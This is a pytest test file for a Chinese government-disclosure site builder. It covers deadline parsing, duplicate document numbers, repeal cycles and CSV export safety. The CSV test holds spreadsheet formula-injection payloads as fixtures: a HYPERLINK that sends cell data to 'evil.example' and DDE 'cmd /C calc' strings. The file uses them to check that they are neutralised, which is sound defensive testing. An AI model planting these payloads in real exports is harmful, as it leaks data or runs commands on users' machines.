"""Hostile and careless field values (issue 15): deadlines past the holiday calendar or past any
date, formula cells in the CSV, the same 文号 written twice in other digits, repealed_by cycles."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import date, timedelta
from pathlib import Path

import chinese_calendar
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from build_helpers import build
from conftest import ROOT
from content_helpers import epoch, validated, write_document, write_interpretation, write_task_table
from messages import check_project, rendered_pages
from disclosure.load.config import load_config
from disclosure.model.deadlines import due_date
from disclosure.errors import Problems, display_path
from disclosure.load.loader import load_content
from disclosure.model.validate import validate
from disclosure.model.workdays import working_days_between

# The years the official calendar knows, as chinese-calendar itself bounds them.
FIRST, LAST = min(chinese_calendar.holidays).year, max(chinese_calendar.holidays).year
FORMULA_START = tuple("=+-@\t\r\0＝＋－＠")
FAST = settings(max_examples=150, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


def messages(problems: Problems, severity: str = "error") -> list[str]:
    items = problems.errors if severity == "error" else problems.warnings
    return [p.format() for p in items]


def task_table(root: Path, table_id: str, plan: str, *deadlines: str) -> Path:
    """A task table whose tasks have these deadlines, one task each."""
    path = write_task_table(root, table_id, plan)
    text = path.read_text("utf-8")
    task = text[text.index("  - no: 1"):]
    tasks = [task.replace("no: 1", f"no: {n}").replace("deadline: 全年", f"deadline: {json.dumps(d, ensure_ascii=False)}")
             for n, d in enumerate(deadlines, 1)]
    path.write_text(text[:text.index("  - no: 1")] + "".join(tasks), "utf-8")
    return path


def line_of(path: Path, needle: str, start: int = 1) -> int:
    lines = path.read_text("utf-8").split("\n")
    return next(n for n, line in enumerate(lines, 1) if n >= start and needle in line)


# --- #4 the date bomb: working days past the years the holiday calendar knows ------------------------


def _weekday_or_calendar(day: date) -> bool:
    try:
        return chinese_calendar.is_workday(day)
    except NotImplementedError:
        return day.weekday() < 5


def _reference_add(start: date, count: int) -> date:
    """Day by day: the official calendar where it has data, Monday–Friday elsewhere."""
    day = start
    while count:
        day += timedelta(days=1)
        count -= _weekday_or_calendar(day)
    return day


def test_a_plan_near_the_calendars_end_builds_and_warns_once(project):
    """The issue's case: a plan written 2026-11-20 (or 11-20 of whatever year the installed calendar
    ends with), `印发后40个工作日内` → no error, one warning naming the first task, and the pages
    show the dates counted Monday to Friday past the calendar."""
    content = project / "content"
    plan = date(LAST, 11, 20)
    write_document(content, "jihua", written=str(plan), published=str(plan))
    table = task_table(content, "jihua-renwu", "jihua", "印发后40个工作日内", "印发后60个工作日内", "全年")
    checked = check_project(project, epoch=epoch(date(LAST, 12, 4)))
    assert not checked.errors, checked.text
    beyond = [line for line in checked.lines if "按周一至周五" in line]
    assert len(beyond) == 1, checked.text  # once per build, not once per task
    assert beyond[0].startswith(f"{display_path(table)}:{line_of(table, '印发后40个工作日内')}: 警告：")
    assert f"{FIRST}–{LAST}" in beyond[0] and "另有 1 项" in beyond[0]
    page = rendered_pages(project, epoch=epoch(date(LAST, 12, 4)))["tasks/jihua-renwu/index.html"]
    assert str(_reference_add(plan, 40)) in page and str(_reference_add(plan, 60)) in page
    if LAST == 2026:  # the numbers: 2026-11-20 is a Friday, no holiday until 2027
        assert "2027-01-15" in page


@pytest.mark.parametrize("plan, text, expected", [
    (date(LAST, 12, 24), "印发后3个工作日内", _reference_add(date(LAST, 12, 24), 3)),  # up to the data's end
    (date(LAST, 12, 31), "印发后1个工作日内", _reference_add(date(LAST, 12, 31), 1)),  # the first day past it
    (date(LAST, 12, 20), "印发后20个工作日内", _reference_add(date(LAST, 12, 20), 20)),
    (date(2025, 12, 31), "印发后1个工作日内", date(2026, 1, 4)),     # 1-1…1-3 off, Sunday 1-4 worked
    (date(1990, 12, 28), "印发后3个工作日内", date(1991, 1, 2)),     # before the data
    (date(2003, 12, 30), "印发后3个工作日内", date(2004, 1, 5)),     # from before it into it (1-1 off)
    (date(2099, 12, 31), "印发后10个工作日内", date(2100, 1, 14)),
])
def test_working_day_deadlines_at_year_ends_never_crash(plan, text, expected):
    from disclosure.model.deadlines import resolve

    found = resolve(text, plan)
    assert found.date == expected
    assert found.exact == all(FIRST <= year <= LAST for year in range(plan.year, expected.year + 1))


def test_no_calendar_warning_without_counting_past_it(content):
    write_document(content, "plan-a", written=f"{LAST}-06-01", published=f"{LAST}-06-01")
    task_table(content, "plan-a-renwu", "plan-a", "印发后10个工作日内", f"{LAST + 1}年底前", "全年")
    write_document(content, "plan-b", written=f"{LAST + 1}-03-01", published=f"{LAST + 1}-03-01")
    task_table(content, "plan-b-renwu", "plan-b", "上半年", "印发后30日内")
    _, problems = validated(content)
    assert not problems.items, messages(problems) + messages(problems, "warning")


def test_the_calendar_warning_names_the_first_such_task(content):
    write_document(content, "plan-a", written=f"{LAST}-12-20", published=f"{LAST}-12-20")
    later = task_table(content, "plan-z-renwu", "plan-a", "全年", "印发后30个工作日内")
    first = task_table(content, "plan-a-renwu", "plan-a", "印发后十个工作日内")
    _, problems = validated(content)
    warnings = messages(problems, "warning")
    assert len(warnings) == 1, warnings
    assert warnings[0].startswith(f"{display_path(first)}:{line_of(first, '印发后十个工作日内')}: ")
    assert display_path(later) not in warnings[0]


@pytest.mark.parametrize("published, interpretation, late", [
    ("1990-03-01", "1990-03-09", True),
    ("1990-03-01", "1990-03-02", False),
    ("2099-12-30", "2100-01-01", False),
    (f"{LAST}-12-30", f"{LAST + 1}-01-04", False),
    (f"{LAST}-12-24", f"{LAST + 1}-01-08", True),
    ("0001-01-01", "9999-12-31", True),
])
def test_the_three_working_day_check_outside_the_calendar(content, published, interpretation, late):
    write_document(content, "wenjian", written=published, published=published)
    write_interpretation(content, "wenjian-jiedu", "wenjian", interpretation)
    _, problems = validated(content)
    assert not problems.errors
    warnings = messages(problems, "warning")
    assert bool(warnings) == late, warnings
    if late:
        assert "按周一至周五计" in warnings[0]


def test_every_covered_day_is_counted_as_the_calendar_says():
    day, end = date(FIRST, 1, 1), date(LAST, 12, 31)
    count = 0
    while day < end:
        day += timedelta(days=1)
        count += chinese_calendar.is_workday(day)
        if day.day == 1 or day.month == 12 and day.day > 24:
            assert working_days_between(date(FIRST, 1, 1), day) == (count, True), day


@pytest.fixture
def calendar_bounds_once(monkeypatch):
    """workdays.covered_years, asked once: it scans the whole holiday calendar for its first and
    last year on every call, twice per year counted, and these spans run over thousands of years
    (nine tenths of this test's time). The same answer for the same calendar; the counting is
    the product's own."""
    import functools

    from disclosure.model import workdays

    monkeypatch.setattr(workdays, "covered_years", functools.cache(workdays.covered_years))


@FAST
@given(start=st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)),
       count=st.integers(min_value=0, max_value=4_000_000))
@example(start=date(LAST, 11, 20), count=40)
@example(start=date(9999, 12, 24), count=5)
@example(start=date(1, 1, 1), count=3_000_000)
def test_adding_and_counting_working_days_agree(calendar_bounds_once, start, count):
    from disclosure.model.workdays import add_working_days

    found = add_working_days(start, count)
    if found is None:  # past 9999-12-31
        assert working_days_between(start, date.max)[0] < count
        return
    due, exact = found
    assert working_days_between(start, due) == (count, exact)
    assert exact == all(FIRST <= year <= LAST for year in range(start.year, due.year + 1)) or count == 0
    if count:
        assert _weekday_or_calendar(due)


# --- #9 deadline text that names no possible date --------------------------------------------------

OUT_OF_RANGE = [
    "0000年底前", "印发后999999个月内", "印发后99999999999日内", "印发后99999999个工作日内", "2022年13月底前",
    "2022年2月30日前", "2022年1月32日前", "10000年第一季度", "99999年底前", "2022年十三月", "第五季度",
    "二〇二二年二月三十日前", "印发后" + "9" * 5000 + "日内", "22年9月底前", "12345年上半年", "2022年0月底前",
    "印发后九千九百九十九万个工作日内", "印发后100000年内", "2022-02-30", "2022.13.01",
]


@pytest.mark.parametrize("text", OUT_OF_RANGE)
def test_an_impossible_deadline_is_the_editors_error(content, text):
    write_document(content, "plan-a", written="2022-06-16", published="2022-06-16")
    table = task_table(content, "plan-a-renwu", "plan-a", "全年", text)
    _, problems = validated(content)
    errors = messages(problems)
    assert len(errors) == 1, errors
    where = f"{display_path(table)}:{line_of(table, 'deadline', line_of(table, 'no: 2'))}: 完成时限“"
    assert errors[0].startswith(where), errors
    assert " — " in errors[0] and len(errors[0]) < 300


def test_a_count_past_9999_from_a_plan_near_it_is_an_error():
    from disclosure.model.deadlines import DeadlineError, resolve

    with pytest.raises(DeadlineError):
        resolve("印发后40个工作日内", date(9999, 12, 20))
    with pytest.raises(DeadlineError):
        resolve("印发后2个月内", date(9999, 11, 30))
    with pytest.raises(DeadlineError):
        resolve("印发后12天内", date(9999, 12, 20))
    assert due_date("9999年12月底前", date(2022, 6, 16)) == date(9999, 12, 31)


@pytest.mark.parametrize("text, expected", [
    ("印发后十五日内", date(2022, 7, 1)),
    ("印发后一百天内", date(2022, 9, 24)),
    ("印发后两个月内", date(2022, 8, 16)),
    ("二〇二二年底前", date(2022, 12, 31)),
    ("二〇二三年三月底前", date(2023, 3, 31)),
    ("二〇二二年十二月三十一日前", date(2022, 12, 31)),
    ("２０２３年９月底前", date(2023, 9, 30)),
    ("2023年第一季度", date(2023, 3, 31)),
    ("一季度", date(2022, 3, 31)),
    ("印发后2年内", date(2024, 6, 16)),
    ("2年内", date(2024, 6, 16)),
    ("3个月内", date(2022, 9, 16)),
    ("印发后2周内", date(2022, 6, 30)),
    ("2023年内", date(2023, 12, 31)),
    ("2022年9月15日内", date(2022, 9, 15)),
    ("统一12月底前完成", date(2022, 12, 31)),
    ("用3年时间，2025年全面完成", date(2025, 12, 31)),
    ("用3年时间完成", None),
    ("2022-12-31", date(2022, 12, 31)),
    ("2022/9/30前完成", date(2022, 9, 30)),
    ("2023年6-9月", date(2023, 9, 30)),
    ("2023年6月至9月底前", date(2023, 9, 30)),
    ("2022年至2023年底前", date(2023, 12, 31)),
    ("按照第1.2.3条执行", None),
    ("“十四五”期间持续推进", None),
])
def test_deadlines_in_other_words_mean_what_they_say(text, expected):
    assert due_date(text, date(2022, 6, 16)) == expected


DEADLINE_WORDS = ["印发后", "发布之日起", "本文件", "个", "工作日", "日", "天", "月", "个月", "年", "底", "前", "内",
                  "第", "季度", "上半年", "下半年", "年底", "全年", "中旬", "上旬", "号", "十", "百", "千", "万", "亿",
                  "〇", "一", "二", "两", "九", "零", "，", " ", "\n", "０", "９", "1", "12", "31", "2022", "9999",
                  "0000", "99999999999"]


@FAST
@given(text=st.one_of(st.text(max_size=60), st.lists(st.sampled_from(DEADLINE_WORDS), max_size=12).map("".join)),
       plan=st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)))
@example(text="印发后40个工作日内", plan=date(2026, 11, 20))
@example(text="9999年12月底前", plan=date(9999, 12, 31))
def test_any_deadline_text_gives_a_date_none_or_an_editors_error(text, plan):
    from disclosure.model.deadlines import DeadlineError, resolve

    try:
        found = resolve(text, plan)
    except DeadlineError as error:
        assert error.message.startswith("完成时限“") and error.fix
        return
    assert found.date is None or isinstance(found.date, date)


# --- #5 formula cells in the CSV -------------------------------------------------------------------


def test_formula_cells_are_neutralised_in_the_csv_the_build_writes(project, capsys, monkeypatch):
    content = project / "content"
    hostile = {
        "formula-eq": {"title": '=HYPERLINK("http://evil.example/?"&A1,"点击")'},
        "formula-plus": {"title": "+cmd|' /C calc'!A0", "doc_number": "-济天政办发〔2026〕1号"},
        "formula-at": {"title": "@SUM(1+1)*cmd|' /C calc'!A0", "doc_number": "@济天政办发〔2026〕2号"},
        "formula-wide": {"title": "＝1+1", "doc_number": "济天政办发〔２０２６〕０３号"},
        "formula-semi": {"title": "通知;=1+1,＋2"},
    }
    for doc_id, fields in hostile.items():
        write_document(content, doc_id, **fields)
    run = build(capsys, monkeypatch, project, project / "site", "--no-cache", "--no-search")
    assert run.code == 0, run.err
    raw = (project / "site" / "api" / "documents.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(FORMULA_START)]
    by_url = {row[-1].rsplit("/", 2)[-2]: row for row in rows[1:]}
    for doc_id, fields in hostile.items():
        title = by_url[doc_id][0]
        assert title == ("'" + fields["title"] if fields["title"][0] in "=+@＝" else fields["title"])
    assert by_url["formula-plus"][1] == "'-济天政办发〔2026〕1号"
    assert by_url["formula-wide"][1] == "济天政办发〔2026〕3号"  # the normal form, see #13
    # Legitimate values as they were: dates, URLs, validity, Chinese text.
    seed = next(row for row in rows[1:] if row[1] == "济天政办发〔2022〕4号")
    assert seed[4] == "2022-06-16" and seed[-1].startswith("http") and seed[6] == "有效"
    # Every cell quoted: a spreadsheet that splits at semicolons keeps “通知;=1+1” in one cell.
    assert all(line.startswith('"') and line.endswith('"') for line in raw.decode("utf-8-sig").split("\r\n") if line)


@FAST
@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=5), min_size=1, max_size=5))
@example([["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "\0x", "＝1", "2022-06-16", "https://a.b/c/", "通知"]])
def test_no_csv_cell_can_start_a_formula(rows):
    from disclosure.render.exports import FORMULA_START as guarded, csv_bytes

    assert set(FORMULA_START) <= set(guarded)
    parsed = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"), newline="")))
    assert len(parsed) == len(rows)
    for row, back in zip(rows, parsed):
        for value, cell in zip(row, back, strict=True):
            risky = value.startswith(FORMULA_START) or value.lstrip().startswith(FORMULA_START)
            assert cell == ("'" + value if risky else value)
            assert not cell.lstrip().startswith(FORMULA_START)


def test_every_csv_the_build_writes_goes_through_the_guard():
    """A new CSV export must use exports.csv_bytes: no other module may write CSV itself."""
    writers = [path.relative_to(ROOT).as_posix() for path in sorted((ROOT / "disclosure").rglob("*.py"))
               if "csv.writer" in path.read_text("utf-8") or "DictWriter" in path.read_text("utf-8")]
    assert writers == ["disclosure/render/exports.py"]
    source = (ROOT / "disclosure" / "render" / "exports.py").read_text("utf-8")
    assert source.count("csv.writer(") == 1 and "def csv_bytes" in source


# --- #13 the same 文号 or 索引号 in other digits ------------------------------------------------------


@pytest.mark.parametrize("first, second", [
    ("济天政办发〔2022〕4号", "济天政办发〔２０２２〕４号"),
    ("济天政办发〔2022〕4号", "济天政办发〔2022〕04号"),
    ("济天政办发〔2022〕4号", "济天政办发〔２０２２〕００４号"),
    ("济天政办发〔2022〕4号", "济天政办发﹝2022﹞4号"),
])
def test_the_same_doc_number_in_other_digits_is_a_duplicate(content, first, second):
    write_document(content, "wenjian-a", doc_number=first)
    other = write_document(content, "wenjian-b", doc_number=second)
    loaded, problems = validated(content)
    errors, warnings = messages(problems), messages(problems, "warning")
    line = line_of(other, "doc_number")
    assert errors == [f"{display_path(other)}:{line}: 发文字号“济天政办发〔2022〕4号”与 "
                      f"{display_path(content / 'documents/test/wenjian-a.md')} 重复 — 每个发文字号只能对应一个文件，请核对文号"]
    assert warnings == [f"{display_path(other)}:{line}: 警告：发文字号“{second}”的写法不规范，已按“济天政办发〔2022〕4号”处理"
                        " — 数字用半角，序号前不加 0，写成 济天政办发〔2022〕4号"]
    assert {doc.doc_number for doc in loaded.documents} == {"济天政办发〔2022〕4号"}


@FAST
@given(prefix=st.sampled_from(["济天政办发", "济天财字", "国办发", "鲁政办字"]),
       year=st.integers(min_value=1990, max_value=2099), number=st.integers(min_value=1, max_value=999),
       zeros=st.integers(min_value=0, max_value=3), wide=st.booleans())
def test_doc_numbers_are_stored_in_their_normal_form(prefix, year, number, zeros, wide):
    from disclosure.load.fields import Context, doc_number

    written = f"{prefix}〔{year}〕{'0' * zeros}{number}号"
    if wide:
        written = written.translate({ord(c): chr(ord(c) + 0xFEE0) for c in "0123456789"})
    problems = Problems()
    ctx = Context(None, Path("x.md"), Path("."), problems)
    ctx.key, ctx.label = "doc_number", "发文字号"
    assert doc_number(written, ctx) == f"{prefix}〔{year}〕{number}号"
    assert not problems.errors and len(problems.warnings) == (zeros > 0 or wide)


@pytest.mark.parametrize("wrong, fix", [
    ("济天政办发[2022]4号", "年份用六角括号〔〕"),
    ("济天政办发（２０２２）０４号", "年份用六角括号〔〕，数字用半角，序号前不加 0"),
    ("济天政办发〔2022〕4", "序号后加“号”"),
])
def test_loose_doc_numbers_are_read_in_the_normal_form_with_a_warning(content, wrong, fix):
    """Errors until issue 18; the 文号 they mean is plain. Every shape: tests/unit/test_doc_numbers.py."""
    path = write_document(content, "wenjian-a", doc_number=wrong)
    loaded, problems = validated(content)
    assert not problems.errors
    assert messages(problems, "warning") == [
        f"{display_path(path)}:{line_of(path, 'doc_number')}: 警告：发文字号“{wrong}”的写法不规范，已按“济天政办发〔2022〕4号”处理"
        f" — {fix}，写成 济天政办发〔2022〕4号"]
    assert [doc.doc_number for doc in loaded.documents] == ["济天政办发〔2022〕4号"]


@pytest.mark.parametrize("second", [
    "11370105004208456P/２０２２-00004", "１１３７０１０５００４２０８４５６Ｐ/2022-00004", "11370105004208456P/2022-4",
    "11370105004208456p/2022-00004",
])
def test_the_same_index_number_written_otherwise_is_a_duplicate(content, second):
    write_document(content, "wenjian-a", index_no="11370105004208456P/2022-00004")
    other = write_document(content, "wenjian-b", index_no=second)
    _, problems = validated(content)
    errors = messages(problems)
    assert len(errors) == 1 and errors[0].startswith(f"{display_path(other)}:{line_of(other, 'index_no')}: 索引号“")
    assert "重复" in errors[0] and display_path(content / "documents/test/wenjian-a.md") in errors[0]
    if unicodedata.normalize("NFKC", second) != second:
        assert "已按“11370105004208456P/2022-00004”处理" in messages(problems, "warning")[0]


# --- smaller: relative paths in 重复 messages, repealed_by cycles ------------------------------------


def test_duplicate_messages_name_both_files_relative(content):
    first = write_document(content, "same-name", doc_number="济天政办发〔2022〕4号")
    second = content / "documents" / "other" / "same-name.md"
    second.parent.mkdir()
    second.write_text(first.read_text("utf-8"), "utf-8")
    absolute = Problems()
    config = load_config(ROOT / "config.yaml", absolute)
    validate(load_content(content.resolve(), config, absolute, jobs=1), absolute)
    text = "\n".join(messages(absolute))
    assert "文件的文件名“same-name”与 content/documents/" in text and "发文字号“济天政办发〔2022〕4号”与 content/" in text
    assert str(content.resolve()) not in text


@pytest.mark.parametrize("links", [
    {"a": "b", "b": "a"},
    {"a": "b", "b": "c", "c": "a"},
    {"a": "b", "b": "c", "c": "b", "d": "a"},  # a and d lead into the cycle b ⇄ c but are not in it
])
def test_a_repealed_by_cycle_is_an_error_in_each_of_its_files(content, links):
    paths = {}
    for name in sorted({*links, *links.values()}):
        extra = {"validity": "废止", "repealed": "2026-02-01", "repealed_by": f"doc-{links[name]}"} if name in links else {}
        paths[name] = write_document(content, f"doc-{name}", **extra)
    _, problems = validated(content)
    cycle = set()
    for start in links:
        seen = [start]
        while links.get(seen[-1]) and links[seen[-1]] not in seen:
            seen.append(links[seen[-1]])
        if links.get(seen[-1]) == start:
            cycle.add(start)
    errors = messages(problems)
    assert len(errors) == len(cycle), errors
    for name in cycle:
        path = paths[name]
        assert any(e.startswith(f"{display_path(path)}:{line_of(path, 'repealed_by')}: 废止依据形成了循环：“doc-{name}” → ")
                   for e in errors), errors


def test_a_document_repealed_by_itself_is_still_one_error(content):
    path = write_document(content, "doc-a", validity="废止", repealed="2026-02-01", repealed_by="doc-a")
    _, problems = validated(content)
    assert messages(problems) == [f"{display_path(path)}:{line_of(path, 'repealed_by')}: 废止依据文件不能是本文件自己"
                                  " — 写废止本文件的那个文件的文件名"]


def test_a_repeal_chain_without_a_cycle_is_fine(content):
    write_document(content, "doc-a", validity="废止", repealed="2026-02-01", repealed_by="doc-b")
    write_document(content, "doc-b", validity="废止", repealed="2026-03-01", repealed_by="doc-c")
    write_document(content, "doc-c")
    _, problems = validated(content)
    assert not problems.items


def test_a_newer_calendar_release_renders_the_pages_again(content, monkeypatch):
    """Due dates depend on the calendar's data: after a refresh no page may be reused unchanged."""
    import gc

    from disclosure.orchestrate import cache, incremental
    from disclosure.orchestrate.pipeline import BuildOptions, load_site

    write_document(content, "plan-a", written=f"{LAST}-12-20", published=f"{LAST}-12-20")
    problems = Problems()
    try:
        _, site = load_site(BuildOptions(content=content, cache=None, jobs=1), problems)
    finally:
        gc.unfreeze()
    templates, config = ROOT / "templates", ROOT / "config.yaml"
    before = incremental.global_key(site, templates, config)
    # The calendar's release is in the code fingerprint that every key starts from.
    real = cache._version
    monkeypatch.setattr(cache, "_version", lambda module, name: "99.0.0" if module == "chinese_calendar" else real(module, name))
    cache.fingerprint.cache_clear()
    try:
        assert incremental.global_key(site, templates, config) != before
    finally:
        monkeypatch.undo()
        cache.fingerprint.cache_clear()
    assert incremental.global_key(site, templates, config) == before


@pytest.mark.parametrize("count", [11, 20_000])
def test_a_pasted_dump_of_unknown_keys_gives_a_few_lines(content, count):
    """Each unknown key is named with a suggestion up to ten; the rest are one line (20,000 keys
    were 20,000 messages, each compared with the schema, and the problems list sorted for each)."""
    keys = "".join(f"k{index}: 值\n" for index in range(count))
    path = write_document(content, "2026-yuanyang-niantie")
    path.write_text(path.read_text("utf-8").replace("---\n", "---\n" + keys, 1), "utf-8")
    _, problems = validated(content)
    unknown = [m for m in messages(problems) if "未知字段" in m]
    assert len(unknown) == 11, unknown
    assert f"另有 {count - 10} 个未知字段" in unknown[-1], unknown
